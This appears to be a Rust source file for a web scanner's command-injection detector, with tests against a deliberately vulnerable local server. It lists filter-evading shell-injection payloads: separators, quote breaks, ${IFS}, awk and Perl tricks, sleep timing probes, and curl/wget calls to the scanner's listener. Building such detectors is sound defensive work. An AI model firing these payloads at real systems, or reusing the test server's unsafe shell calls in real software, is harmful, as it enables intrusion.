//! Values that reach a shell.

use futures_util::FutureExt;
use futures_util::future::BoxFuture;

use super::facts::{Facts, facts};
use super::traversal::has_likely_name;
use super::{called, computed, timing};
use crate::checks::run::points_of;
use crate::checks::{About, Bench, Check, Entry, callback};
use crate::point::{Place, Point};
use crate::proof::{Proof, Seen};

/// See [`About`].
pub(super) struct Command;

static ABOUT: About = About {
    name: "command-injection",
    qids: &[990_004],
    means: "A value is put into a command line, and a shell takes a part of it for a command of its own.",
    matters: "Whoever sends the request runs commands on the server with the rights of the application: reads and changes its \
              data, and goes on from there into the network.",
    remedy: "Call programs with a list of arguments and without a shell, or do the work with a library. Where a value must \
             go into a command, allow only values from a fixed list.",
    technique: "A small calculation is put in behind the signs that separate commands, within and without quotes; its result \
                must be shown, and another calculation must not show it. Where nothing is shown, the command waits, several \
                times in turn with one that does not, or it calls the listener of the scanner.",
    source: "CWE-78",
};

/// What computes, for quotes of each kind at once and then one by one; without blanks, without certain letters.
const SHOWN: &[&str] = &[
    "{v};echo $(({a}*{b}));#';echo $(({a}*{b}));#\";echo $(({a}*{b}));#",
    "{v}|echo $(({a}*{b})) #'|echo $(({a}*{b})) #\"|echo $(({a}*{b})) #",
    "{v}$(echo $(({a}*{b})))",
    "{v}&echo $(({a}*{b}))&#'&echo $(({a}*{b}))&#\"&echo $(({a}*{b}))&#",
    "{v}\necho $(({a}*{b}))\n",
    "{v}`echo $(({a}*{b}))`",
    "{v};echo $(({a}*{b}))",
    "{v}|expr {a} \\* {b}",
    "{v}&expr {a} \\* {b}",
    "{v}\nexpr {a} \\* {b}\n",
    "{v};echo${IFS}$(({a}*{b}))",
    "{v}|echo${IFS}$(({a}*{b}))",
    "{v}\necho${IFS}$(({a}*{b}))\n#",
    "{v};expr {a} \\* {b}",
    "{v}';echo $(({a}*{b}));'",
    "{v}\";echo $(({a}*{b}));\"",
    "{v}'\necho $(({a}*{b}))\n'",
    "{v}\"\necho $(({a}*{b}))\n\"",
    "{v};e'c'ho $(({a}*{b}))",
    "{v}||echo $(({a}*{b}))||",
    "{v}%0aecho $(({a}*{b}))%0a",
    "echo $(({a}*{b}))",
    "{v}&set /a {a}*{b}",
    "{v}|set /a {a}*{b}",
    "{v}\"&set /a {a}*{b}&\"",
];

/// What none of the signs that separate commands brings: within the words of a command, or where a filter takes away a word
/// or a sign. Tabs are blanks that few filters know.
const OTHERWISE: &[&str] = &[
    "{v}$(echo${IFS}$(({a}*{b})))",
    "{v}`echo $(({a}*{b}))`",
    "{v};expr\t{a}\t\\*\t{b};\nexpr\t{a}\t\\*\t{b}\n#'\nexpr\t{a}\t\\*\t{b}\n#\"\nexpr\t{a}\t\\*\t{b}\n#",
    "{v};e'c'ho $(({a}*{b}))",
    "{v}%0aecho $(({a}*{b}))%0a",
    "echo $(({a}*{b}))",
    // A whole command that is taken apart at its blanks, without a shell.
    "expr {a} * {b}",
    "{v}&set /a {a}*{b}",
    "{v}\"&set /a {a}*{b}&\"",
    // Programs of `awk`: out of a pattern, or of a string in a condition in brackets; and in front of an action.
    "{v}/;BEGIN{print {a}*{b}}#\"||1)print {a}*{b};if(1==\"{v}",
    "{v}\"||1{print {a}*{b}}1==\"{v}",
];

/// What opens files in Perl runs a name with a sign for a pipe at its end.
const OPENED: &[&str] = &["echo $(({a}*{b}))|"];

const WITHIN: &[&str] =
    &["{v}$(sleep${IFS}{t})", "{v}`sleep\t{t}`", "{v}\nsleep\t{t}\n#'\nsleep\t{t}\n#\"\nsleep\t{t}\n#"];

/// What waits in a header or cookie that is never shown, within and without quotes.
const LOGGED: &str = "{v}$(sleep {t})';sleep {t};'";

const WAITING: &[&str] = &[
    "{v};sleep {t};#';sleep {t};#\";sleep {t};#",
    "{v}$(sleep {t})",
    "{v}|sleep {t} #'|sleep {t} #\"|sleep {t} #",
    "{v}\nsleep {t}\n#'\nsleep {t}\n#\"\nsleep {t}\n#",
    "{v}`sleep {t}`",
    "{v}&sleep {t} #'&sleep {t} #\"&sleep {t} #",
    "{v};sleep${IFS}{t};#';sleep${IFS}{t};#\";sleep${IFS}{t};#",
    "{v}|sleep${IFS}{t}",
];

/// What calls the listener, with whatever program is there for it.
const CALLING: &[&str] = &[
    "{v};curl -sm3 {u};wget -qT3 -O- {u};#';curl -sm3 {u};wget -qT3 -O- {u};#\";curl -sm3 {u};wget -qT3 -O- {u};#",
    "{v}$(curl${IFS}-sm3${IFS}{u})$(wget${IFS}-qT3${IFS}-O-${IFS}{u})",
    "{v}|curl -sm3 {u}|wget -qT3 -O- {u} #'|curl -sm3 {u}|wget -qT3 -O- {u} #\"|curl -sm3 {u}|wget -qT3 -O- {u} #",
    "{v}\ncurl -sm3 {u}\nwget -qT3 -O- {u}\n#'\ncurl -sm3 {u}\nwget -qT3 -O- {u}\n#\"\ncurl -sm3 {u}\nwget -qT3 -O- {u}\n#",
    "{v}&curl -sm3 {u}&wget -qT3 -O- {u}&\"&curl -sm3 {u}&wget -qT3 -O- {u}&",
];

impl Check for Command {
    fn about(&self) -> &'static About {
        &ABOUT
    }

    fn probe<'a>(
        &'a self,
        bench: &'a Bench<'a>,
        entry: &'a Entry,
        point: &'a Point,
    ) -> Option<BoxFuture<'a, ()>> {
        Some(probe(bench, entry, point).boxed())
    }

    fn try_entry<'a>(&'a self, bench: &'a Bench<'a>, entry: &'a Entry) -> Option<BoxFuture<'a, ()>> {
        let work = async { timing::unseen(bench, entry, &[LOGGED], (ABOUT.qids, 990_004)).await };
        timing::may_log(entry).then(|| work.boxed())
    }

    fn try_site<'a>(&'a self, bench: &'a Bench<'a>) -> Option<BoxFuture<'a, ()>> {
        bench.listener?;
        Some(late(bench).boxed())
    }
}

async fn probe(bench: &Bench<'_>, entry: &Entry, point: &Point) {
    let Some(known) = facts(bench, entry, point).await else { return };
    let is_quiet = known.is_quiet() && known.errors.is_empty();
    let is_far = matches!(point.place, Place::Header | Place::Cookie);
    if known.is_route() || known.is_settled() || (is_quiet && is_far) {
        return;
    }
    // A shell does not bear quotes that don't fit: where they change nothing, its output is not shown.
    let mut found = if is_quiet { None } else { by_output(bench, entry, (point, &known)).await };
    if found.is_none() {
        found = by_waiting(bench, entry, (point, &known)).await;
    }
    if found.is_none() {
        let count = if is_quiet && known.echoes { 1 } else { CALLING.len() };
        found = called::prove_first(bench, entry, point, CALLING.get(..count).unwrap_or_default()).await;
    }
    if let Some((payload, proof)) = found {
        known.settle();
        bench.report_at(990_004, entry, Some((point, &payload)), proof);
    }
}

/// Commands that run when the answer was long given.
async fn late(bench: &Bench<'_>) {
    callback::wait(bench).await;
    for entry in bench.entries {
        for point in points_of(entry, bench) {
            let Some(template) = called::late(bench, entry, &point, CALLING) else { continue };
            if bench.sink.has_at(&[990_004], &entry.request.url.path, &point.name) {
                continue;
            }
            if let Some((payload, proof)) = called::prove(bench, entry, &point, template).await {
                bench.report_at(990_004, entry, Some((&point, &payload)), proof);
            }
        }
    }
}

/// A command behind all signs that separate commands, within and without quotes of each kind. It still runs where a filter
/// takes away one of the signs, or all blanks and ends of lines. Headers have no ends of lines, and cookies no double quotes.
fn behind_all(command: &str, place: &Place) -> String {
    if matches!(place, Place::Header | Place::Cookie) {
        let all = format!("&{command}|{command};{command};#");
        return match place {
            Place::Cookie => format!("{{v}}{all}'{all}"),
            _ => format!("{{v}}{all}'{all}\"{all}"),
        };
    }
    let all = format!("&{command}|{command};{command};\n{command};\n#");
    format!("{{v}}{all}'{all}\"{all}")
}

/// A template that ends in a comment, ended as the usual value ends, where that is the name of a file: what asks for an ending
/// finds it there.
fn ended(template: &str, point: &Point) -> String {
    let ending = point.value.rsplit_once('.').map_or("", |(_, ending)| ending);
    let is_ending =
        (2..=4).contains(&ending.len()) && ending.chars().all(|letter| letter.is_ascii_alphabetic());
    if is_ending && template.ends_with('#') { format!("{template}.{ending}") } else { template.to_owned() }
}

async fn by_output(
    bench: &Bench<'_>,
    entry: &Entry,
    (point, known): (&Point, &Facts),
) -> Option<(String, Proof)> {
    let all = behind_all("echo${IFS}$(({a}*{b}))", &point.place);
    let attempts = |templates: &[&str]| {
        let ended: Vec<String> = templates.iter().map(|template| ended(template, point)).collect();
        let ended: Vec<&str> = ended.iter().map(String::as_str).collect();
        computed::attempts(&ended, entry, point)
    };
    let at_once = attempts(&[all.as_str()]);
    let attempt = at_once.first()?;
    let answer = bench.send_of(entry, &entry.request.with(point, &attempt.payload)).await.ok()?;
    // Not all that refuses says so by its status.
    let is_refused = known.refuses(&answer) || known.says_else(point, &answer, &attempt.payload);
    let is_shown = attempt.expect.find(&Seen { response: answer, ..Seen::default() }).is_some();
    if is_shown || is_refused {
        let list = attempts(SHOWN);
        let found = computed::prove_first(bench, entry, point, &list).await;
        if found.is_some() {
            return found;
        }
        if is_shown {
            return computed::prove_first(bench, entry, point, &at_once).await;
        }
    }
    let found = computed::prove_first(bench, entry, point, &attempts(OTHERWISE)).await;
    if found.is_some() || !has_likely_name(point) {
        return found;
    }
    computed::prove_first(bench, entry, point, &attempts(OPENED)).await
}

async fn by_waiting(
    bench: &Bench<'_>,
    entry: &Entry,
    (point, known): (&Point, &Facts),
) -> Option<(String, Proof)> {
    let all = ended(&behind_all("sleep${IFS}1", &point.place), point).replace("{v}", &point.value);
    let answer = bench.send_of(entry, &entry.request.with(point, &all)).await.ok()?;
    let has_waited = answer.elapsed >= timing::SIGN + entry.response.elapsed || known.refuses(&answer);
    // Another page may be that of a filter, or only say that the command failed.
    let is_else = known.says_else(point, &answer, &all);
    let within: &[&str] = match has_waited {
        true => &[],
        // What is shown as it came is less likely to be a part of a command.
        false if known.echoes && known.is_quiet() => WITHIN.get(..1).unwrap_or_default(),
        false => WITHIN,
    };
    let waiting: &[&str] = if has_waited || is_else { WAITING } else { &[] };
    // A whole command: it is another page at least.
    let whole: &[&str] = if known.matters { &["sleep {t}"] } else { &[] };
    let list = within.iter().chain(waiting).chain(whole);
    let list: Vec<String> = list.map(|template| ended(template, point)).collect();
    let list: Vec<&str> = list.iter().map(String::as_str).collect();
    timing::prove_first(bench, entry, point, &list).await
}

#[cfg(test)]
mod tests {
    use std::net::IpAddr;
    use std::process::Command as Process;

    use super::*;
    use crate::http::{Request, Target};
    use crate::listener::CallbackListener;
    use crate::testing::{Answer, Asked, Extras, scan, scan_with, serve};

    fn shell(line: &str) -> String {
        let output = Process::new("sh").arg("-c").arg(line).output().unwrap();
        String::from_utf8_lossy(&output.stdout).replace('<', "&lt;")
    }

    fn answer(asked: &Asked) -> Answer {
        let host = asked.field("host");
        let plain: String = host.chars().filter(|c| c.is_alphanumeric() || *c == '.').collect();
        Answer::html(match asked.path.as_str() {
            "/plain" => shell(&format!("echo looking for {host}")),
            "/single" => shell(&format!("echo 'looking for {host}'")),
            "/double" => shell(&format!("echo \"looking for {host}\"")),
            "/no-semicolon" => shell(&format!("echo looking for {}", host.replace([';', '|', '&'], ""))),
            "/no-blanks" => shell(&format!("echo looking for {}", host.replace([' ', '\t'], ""))),
            "/newline" => shell(
                &format!("echo looking for {}", host.replace([';', '|', '&', '$', '`'], ""))
                    .replace("expr", ""),
            ),
            "/only-newline" => {
                shell(&format!("echo \"looking for {}\"", host.replace([';', '|', '&', '$', '`', '('], "")))
            }
            "/no-space" => {
                shell(&format!("echo {} >/dev/null", host.replace(char::is_whitespace, "")));
                "done".to_owned()
            }
            "/ending" if !host.ends_with(".test") => "Not a name".to_owned(),
            "/ending" => shell(&format!("cat /nowhere/{host}; echo end")),
            "/agent" => {
                shell(&format!("echo \"{}\"", asked.header("user-agent")));
                "welcome".to_owned()
            }
            "/pattern" => shell(&format!("echo a.test | awk '/{}/ {{print 1}}'", host.replace('\'', ""))),
            "/no-dollar" => {
                shell(&format!("echo looking for {}", host.replace(['$', '`', ' ', '(', ')'], "")))
            }
            "/worded" if host.contains([';', '&', '`', '$', '\n']) => "That is not allowed here".to_owned(),
            "/worded" => shell(&format!("echo looking for {host}")),
            "/hidden" => {
                shell(&format!("echo {host}"));
                "done".to_owned()
            }
            "/thanked" => {
                shell(&format!("echo {host}"));
                format!("<p>Thank you for {}</p>", host.replace('<', "&lt;"))
            }
            // A job takes it up later: neither an output nor a wait.
            "/queued-filtered" if host.contains(['|', '&']) => "no".to_owned(),
            "/queued" | "/slow-queue" | "/queued-filtered" => {
                let wait = if asked.path.starts_with("/queued") { "" } else { "sleep 0.3; " };
                let job = format!("({wait}echo {host}) >/dev/null 2>&1 &");
                shell(&job);
                "queued".to_owned()
            }
            "/whole" => {
                let mut words = host.split(' ');
                let run = Process::new(words.next().unwrap_or_default()).args(words).output();
                let Ok(output) = run else { return Answer::status(500) };
                String::from_utf8_lossy(&output.stdout).replace('<', "&lt;")
            }
            "/checked" => shell(&format!("echo looking for {plain}")),
            "/argument" => String::from_utf8_lossy(&Process::new("echo").arg(&host).output().unwrap().stdout)
                .replace('<', "&lt;"),
            _ => format!("<p>{}</p>", host.replace('<', "&lt;")),
        })
    }

    #[tokio::test]
    async fn commands_are_found_in_quotes_and_behind_filters() {
        let server = serve(answer).await;
        let paths = [
            "/plain",
            "/single",
            "/double",
            "/no-semicolon",
            "/no-blanks",
            "/hidden",
            "/only-newline",
            "/no-space",
            "/ending",
            "/pattern",
            "/no-dollar",
            "/worded",
            "/thanked",
        ];
        for path in paths {
            let found = scan(&Command, server, &format!("{path}?host=a.test")).await;
            assert_eq!(found.len(), 1, "{path}");
            assert_eq!((found[0].qid, found[0].parameter.as_deref()), (990_004, Some("host")), "{path}");
        }
        let found = scan(&Command, server, "/agent").await;
        assert_eq!(
            found.iter().map(|found| found.parameter.as_deref()).collect::<Vec<_>>(),
            [Some("User-Agent")]
        );
        let found = scan(&Command, server, "/whole?host=true").await;
        assert_eq!(found.iter().map(|found| found.qid).collect::<Vec<_>>(), [990_004]);
        for path in ["/checked", "/argument", "/echo"] {
            assert!(scan(&Command, server, &format!("{path}?host=a.test")).await.is_empty(), "{path}");
        }
    }

    #[tokio::test]
    async fn commands_of_jobs_are_found_by_their_calls() {
        let server = serve(answer).await;
        let listener = CallbackListener::start(IpAddr::from([127, 0, 0, 1])).await.unwrap();
        for (path, wanted) in
            [("/queued", 1), ("/queued-filtered", 1), ("/slow-queue", 1), ("/checked", 0), ("/argument", 0)]
        {
            let url = Target::parse(&format!("http://{server}{path}?host=a.test")).unwrap();
            let extras = Extras { listener: Some(&listener), ..Extras::default() };
            let (found, _) = scan_with(&Command, vec![Request::get(url)], extras).await;
            assert_eq!(found.iter().filter(|found| found.qid == 990_004).count(), wanted, "{path}");
        }
    }
}
